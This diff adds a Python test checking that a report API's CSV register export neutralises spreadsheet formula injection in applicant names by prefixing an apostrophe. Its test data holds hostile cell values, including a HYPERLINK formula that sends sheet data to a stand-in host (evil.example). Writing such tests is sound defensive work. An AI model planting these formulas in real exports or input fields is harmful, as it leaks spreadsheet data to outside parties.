@@ -80,3 +80,22 @@ def test_csv_downloads_have_a_bom_and_the_documented_columns(loaded):
     for path in ("indicators.csv", "ranking.csv"):
         assert loaded.get("control", f"/api/reports/{path}?period=2026-11").data.startswith(b"\xef\xbb\xbf")
     assert loaded.get("an", "/api/reports/ontime.csv?period=2026-11").status_code == 403
+
+
+def test_csv_cells_typed_by_applicants_never_run_as_spreadsheet_formulas(api):
+    # R-8.4 (CSV / formula injection, OWASP): a name typed by an applicant or at the desk that starts
+    # with = + - @ (or a tab / carriage return before one) is a formula when the control office opens
+    # the register in a spreadsheet program (=HYPERLINK can send the sheet's data away). Such a text
+    # cell is written with a leading apostrophe, which spreadsheets show as text; others unchanged.
+    import csv
+    import io
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"Xem")', "+84905123456", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1"]
+    for name in [*hostile, "Nguyễn Văn An"]:
+        api.register(applicant={"name": name})
+    r = api.get("control", "/api/reports/register.csv?period=2026-11")
+    assert r.status_code == 200
+    names = [row["applicant_name"] for row in csv.DictReader(io.StringIO(r.data.decode("utf-8-sig")))]
+    assert sorted(names) == sorted(["'" + n.strip() if n.strip() != n else "'" + n for n in hostile]
+                                   + ["Nguyễn Văn An"]), names
